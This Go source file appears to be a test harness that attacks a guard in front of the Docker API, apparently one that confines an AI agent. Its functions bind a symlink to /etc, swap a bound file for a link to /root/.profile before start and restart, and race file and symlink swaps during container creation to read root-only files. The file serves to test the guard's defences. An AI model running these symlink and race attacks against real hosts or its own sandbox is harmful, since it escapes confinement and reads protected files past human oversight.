package main

import (
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"net/http"
	"os"
	"strings"
)

func linkToEtc(*Config) (string, bool) {
	_ = os.Remove("/workspace/attack-link")
	if err := os.Symlink("/etc", "/workspace/attack-link"); err != nil {
		return short(err), false
	}
	defer os.Remove("/workspace/attack-link")
	return create(apiVersion, `"HostConfig":{"Binds":["/workspace/attack-link:/x"]}`)
}

// behind is a file that everybody may read, in a directory that only root may pass.
const behind = "/root/.profile"

// unseen reports that the agent itself cannot reach it, without which the attempts would show nothing.
func unseen() error {
	if _, err := os.Lstat(behind); !errors.Is(err, fs.ErrPermission) {
		return fmt.Errorf("%s is no secret: %w", behind, err)
	}
	return nil
}

// linkBeforeStart binds a file of its own and puts a link in its place before the container is started, and again
// before it is restarted.
func linkBeforeStart(*Config) (string, bool) {
	const place = "/workspace/attack-swap"
	if err := unseen(); err != nil {
		return short(err), true
	}
	defer os.Remove(place)
	if err := os.WriteFile(place, nil, 0o600); err != nil {
		return short(err), true
	}
	path, err := reader(place)
	if err != nil {
		return short(err), true
	}
	defer remove(path)
	if err := errors.Join(os.Remove(place), os.Symlink(behind, place)); err != nil {
		return short(err), true
	}
	var said string
	for _, verb := range []string{"/start", "/restart"} {
		said, _ = post(path+verb, "")
		if out := ended(path); strings.Contains(out, "READ") {
			return out, true
		}
	}
	return said, false
}

// raceOfLinks swaps a file and a link to what root can reach only while the guard and the
// engine look at it: when a container is made, started and restarted. Through: it read what the agent cannot.
func raceOfLinks(*Config) (string, bool) {
	const place = "/workspace/attack-race"
	if err := unseen(); err != nil {
		return short(err), true
	}
	stop, stopped := make(chan struct{}), make(chan struct{})
	go func() {
		defer close(stopped)
		for {
			select {
			case <-stop:
				return
			default:
			}
			_ = os.Remove(place)
			_ = os.WriteFile(place, nil, 0o600)
			_ = os.Remove(place)
			_ = os.Symlink(behind, place)
		}
	}()
	defer os.Remove(place)
	defer func() {
		close(stop)
		<-stopped
	}()
	made, started := 0, 0
	for range 15 {
		path, err := reader(place)
		if err != nil {
			continue // refused, or what it binds was not there
		}
		made++
		var out strings.Builder
		for _, verb := range []string{"/start", "/restart?t=0", "/start"} {
			if _, ok := post(path+verb, ""); ok {
				started++
			}
			out.WriteString(ended(path))
		}
		remove(path)
		if said := out.String(); strings.Contains(said, "READ") {
			return strings.TrimSpace(said), true
		}
	}
	return fmt.Sprintf("%d of 15 containers were made and started %d times, none could read anything", made, started), false
}

// reader makes a container that says what it can read of a bind.
func reader(source string) (path string, err error) {
	code, b, err := docker(http.MethodPost, apiVersion+"/containers/create",
		`{"Image":"`+image+`","Tty":true,"Cmd":["read","/x"],"HostConfig":{"Binds":["`+source+`:/x"]}}`)
	var r struct{ ID string }
	if err == nil {
		err = json.Unmarshal(b, &r)
	}
	if err != nil || code != http.StatusCreated {
		return "", fmt.Errorf("create: %d %s %w", code, message(b), err)
	}
	return apiVersion + "/containers/" + r.ID, nil
}

// ended waits for the end of a container and returns what it printed so far.
func ended(path string) string {
	_, _, _ = docker(http.MethodPost, path+"/wait", "") // one that never ran does not make wait
	_, b, _ := docker(http.MethodGet, path+"/logs?stdout=1&stderr=1", "")
	return string(b)
}

func remove(path string) { _, _, _ = docker(http.MethodDelete, path+"?force=1", "") }
